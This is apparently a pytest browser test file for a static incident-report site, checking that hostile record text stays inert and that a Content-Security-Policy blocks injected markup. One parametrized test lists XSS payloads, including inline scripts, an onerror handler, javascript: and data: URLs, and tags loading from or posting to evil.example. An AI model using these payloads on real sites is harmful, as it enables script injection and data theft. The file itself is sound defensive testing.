"""Record text stays text, and the policy stops what would get through all the same (D2, C10)."""

import re

import pytest
from tests.site.conftest import ATTACKS, HOSTILE, Visit

pytestmark = pytest.mark.browser

POSTMORTEM = "postmortems/2026/11/2026-11-20-hostile/"
TOUCHED = (HOSTILE, POSTMORTEM, "", "incidents/", "incidents/2026/11/", "components/payments/")


@pytest.mark.variants(3, every=2)
@pytest.mark.parametrize("path", TOUCHED)
def test_nothing_of_a_hostile_record_comes_alive(visit: Visit, path: str) -> None:
    page = visit.go(path)

    assert page.evaluate("window.attacked") is None
    assert visit.foreign == []
    assert visit.errors == []
    assert (
        page.evaluate("document.querySelectorAll('article :is(script, img, base, meta)').length")
        == 0
    )
    handlers = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])"
    names = page.evaluate(f"{handlers}.map((a) => a.name).filter((n) => n.startsWith('on'))")
    assert names == []
    links = page.evaluate("[...document.links].map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}


def test_the_words_of_an_attack_can_be_read(visit: Visit) -> None:
    page = visit.go(HOSTILE)

    shown = page.inner_text("article")
    for attack in (ATTACKS[0], ATTACKS[1], ATTACKS[7], ATTACKS[8]):
        assert attack in shown
    assert page.title().startswith(ATTACKS[0])
    assert page.inner_text("h1") == ATTACKS[0] + ATTACKS[2]


def test_links_of_a_hostile_prose_lead_nowhere(visit: Visit) -> None:
    page = visit.go(HOSTILE)

    assert "press" in page.inner_text("article")
    for scheme in ("javascript", "data"):
        assert page.locator(f'article a[href^="{scheme}:" i]').count() == 0
    assert page.locator(".wb-prose a", has_text="press").count() == 0


@pytest.mark.variants(4)
@pytest.mark.parametrize(
    "attack",
    [
        "<script>window.attacked = 1</script>",
        "<img src='x' onerror='window.attacked = 1'>",
        "<a id='pressed' href='javascript:window.attacked=1'>x</a>",
        "<iframe srcdoc='<script>parent.attacked = 1</script>'></iframe>",
        "<object data='data:text/html,<script>parent.attacked=1</script>'></object>",
        "<script src='https://evil.example/x.js'></script>",
        "<link rel='stylesheet' href='https://evil.example/x.css'>",
        "<img src='https://evil.example/pixel.png'>",
        "<base href='https://evil.example/'>",
        "<form id='sent' action='https://evil.example/'><input name='a'></form>",
    ],
)
def test_the_policy_stops_what_a_page_could_hold(visit: Visit, attack: str) -> None:
    """As if the sanitiser had let everything through."""
    whole = re.compile(r".*/incidents/$")

    def poisoned(route: object) -> None:
        answer = route.fetch()  # type: ignore[attr-defined]
        body = answer.text().replace("</article>", f"{attack}</article>")
        route.fulfill(response=answer, body=body)  # type: ignore[attr-defined]

    visit.page.route(whole, poisoned)
    page = visit.go("incidents/")
    page.evaluate("document.getElementById('pressed')?.click()")
    page.evaluate("document.getElementById('sent')?.submit()")
    page.wait_for_timeout(150)

    assert page.evaluate("window.attacked") is None
    assert page.url == f"{visit.base}incidents/"
    assert page.evaluate("document.baseURI") == page.url
    answered = [url for url in visit.foreign if "evil.example" in url]
    assert all("evil.example" in url for url in answered)
    assert visit.errors, "the browser says that it refused something"


def test_every_page_carries_the_policy_first(shop) -> None:  # type: ignore[no-untyped-def]
    for path in (shop / "build" / "site").rglob("*.html"):
        page = path.read_text(encoding="utf-8")
        policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
        assert policy, path
        assert page.index("Content-Security-Policy") < page.index("<link")
        rules = dict(rule.strip().split(" ", 1) for rule in policy[1].split(";"))
        assert rules["script-src"] == "'self' 'wasm-unsafe-eval'"
        assert rules["object-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
        assert rules["default-src"] == "'none'"
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page), "no inline script"
        assert (
            "style="
            not in page.split("<body", 1)[1].replace("style=&#39;", "").replace("style=&#x27;", "")
            or "evil.example" in page
        )
